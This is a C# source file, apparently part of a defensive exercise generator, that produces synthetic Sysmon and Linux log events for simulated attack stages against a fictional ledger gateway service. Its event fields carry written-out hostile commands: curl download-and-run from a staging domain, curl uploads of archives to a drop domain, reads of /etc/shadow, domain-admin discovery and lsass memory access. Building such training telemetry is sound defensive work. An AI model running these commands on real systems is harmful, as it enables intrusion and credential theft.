using System.Globalization;
using Hikeshi.Exercises.Sector;

namespace Hikeshi.Exercises.Attack;

/// <summary>
/// What a host logs while the attacker works on it. The behaviour is the same at every member; every name, address and hash in it is not.
/// The lines describe; nothing here runs.
/// </summary>
internal sealed class BehaviourEvents(Institution institution, Asset host, AttackerInfrastructure infrastructure, SeededRandom random)
{
    private readonly bool windows = host.Os == "windows";

    internal IReadOnlyList<TelemetryEvent> For(AttackStepKind step, DateTimeOffset at) => step switch
    {
        AttackStepKind.Entry => windows ? WindowsEntry(at) : LinuxEntry(at),
        AttackStepKind.Discovery => [Process(at, windows
            ? ("C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all & net group \"Domain Admins\" /domain & nltest /domain_trusts", "C:\\Windows\\System32\\cmd.exe")
            : ("/bin/sh", "sh -c id; uname -a; cat /etc/passwd; ip addr", "/bin/sh"))],
        AttackStepKind.CredentialAccess => windows ? WindowsCredentials(at) : [Process(at, ("/usr/bin/cat", "cat /etc/shadow", "/bin/sh"))],
        AttackStepKind.CommandAndControl => [Connection(at, infrastructure.CommandDomain)],
        AttackStepKind.Exfiltration =>
        [
            Process(at, windows
                ? ("C:\\Windows\\System32\\curl.exe", $"curl.exe -s -T C:\\ProgramData\\{infrastructure.PayloadName}.zip https://{infrastructure.DropDomain}/in", "C:\\Windows\\System32\\cmd.exe")
                : ("/usr/bin/curl", $"curl -s -T /tmp/.{infrastructure.PayloadName}.tgz https://{infrastructure.DropDomain}/in", "/bin/sh")),
            Connection(at, infrastructure.DropDomain),
        ],
        _ => [],
    };

    private List<TelemetryEvent> WindowsEntry(DateTimeOffset at)
    {
        var file = $"C:\\ProgramData\\{infrastructure.PayloadName}.exe";
        return
        [
            EventLine.Sysmon(3, institution, host, random, at).With("Image", WindowsService).With("User", ServiceUser).With("Initiated", "false")
                .With("SourceIp", infrastructure.Source.ToString()).With("DestinationIp", host.Address).With("DestinationPort", SyntheticSector.ComponentPort.ToString(CultureInfo.InvariantCulture)).ToEvent(),
            EventLine.Sysmon(1, institution, host, random, at).With("Image", "C:\\Windows\\System32\\cmd.exe").With("OriginalFileName", "Cmd.Exe")
                .With("CommandLine", $"cmd.exe /c curl.exe -s -o {file} https://{infrastructure.StagingDomain}/{infrastructure.PayloadName} & {file}")
                .With("ParentImage", WindowsService).With("ParentCommandLine", "java.exe -jar ledger-gateway.jar").With("User", ServiceUser).With("IntegrityLevel", "High")
                .With("Hashes", $"SHA256={random.NextHex(32).ToUpperInvariant()}").With("RemoteAddress", infrastructure.Source.ToString()).ToEvent(),
            EventLine.Sysmon(1, institution, host, random, at).With("Image", file).With("CommandLine", file).With("ParentImage", "C:\\Windows\\System32\\cmd.exe").With("User", ServiceUser)
                .With("Hashes", $"SHA256={infrastructure.PayloadSha256.ToUpperInvariant()}").ToEvent(),
        ];
    }

    private List<TelemetryEvent> LinuxEntry(DateTimeOffset at)
    {
        var file = $"/tmp/.{infrastructure.PayloadName}";
        return
        [
            EventLine.Linux("network_connection", institution, host, random, at).With("Image", LinuxService).With("User", "ledger").With("Initiated", "false")
                .With("SourceIp", infrastructure.Source.ToString()).With("DestinationIp", host.Address).With("DestinationPort", SyntheticSector.ComponentPort.ToString(CultureInfo.InvariantCulture)).ToEvent(),
            EventLine.Linux("process_creation", institution, host, random, at).With("Image", "/bin/sh")
                .With("CommandLine", $"sh -c curl -fsS -o {file} https://{infrastructure.StagingDomain}/{infrastructure.PayloadName} && chmod +x {file} && {file}")
                .With("ParentImage", LinuxService).With("ParentCommandLine", "java -jar ledger-gateway.jar").With("User", "ledger")
                .With("Hashes", $"SHA256={random.NextHex(32)}").With("RemoteAddress", infrastructure.Source.ToString()).ToEvent(),
            EventLine.Linux("process_creation", institution, host, random, at).With("Image", file).With("CommandLine", file).With("ParentImage", "/bin/sh").With("User", "ledger")
                .With("Hashes", $"SHA256={infrastructure.PayloadSha256}").ToEvent(),
        ];
    }

    private List<TelemetryEvent> WindowsCredentials(DateTimeOffset at) =>
    [
        EventLine.Sysmon(10, institution, host, random, at).With("SourceImage", $"C:\\ProgramData\\{infrastructure.PayloadName}.exe").With("SourceUser", ServiceUser)
            .With("TargetImage", "C:\\Windows\\System32\\lsass.exe").With("GrantedAccess", "0x1410").ToEvent(),
    ];

    private TelemetryEvent Process(DateTimeOffset at, (string Image, string CommandLine, string Parent) process) =>
        (windows ? EventLine.Sysmon(1, institution, host, random, at) : EventLine.Linux("process_creation", institution, host, random, at))
            .With("Image", process.Image).With("CommandLine", process.CommandLine).With("ParentImage", process.Parent).With("User", windows ? ServiceUser : "ledger")
            .With("Hashes", $"SHA256={random.NextHex(32)}").ToEvent();

    private TelemetryEvent Connection(DateTimeOffset at, string domain) =>
        (windows ? EventLine.Sysmon(3, institution, host, random, at) : EventLine.Linux("network_connection", institution, host, random, at))
            .With("Image", windows ? $"C:\\ProgramData\\{infrastructure.PayloadName}.exe" : $"/tmp/.{infrastructure.PayloadName}").With("User", windows ? ServiceUser : "ledger")
            .With("Initiated", "true").With("SourceIp", host.Address).With("DestinationHostname", domain).With("DestinationPort", "443").ToEvent();

    internal const string WindowsService = "C:\\Services\\LedgerGateway\\jre\\bin\\java.exe";
    internal const string LinuxService = "/opt/ledger-gateway/jre/bin/java";
    private const string ServiceUser = "NT SERVICE\\LedgerGateway";
}
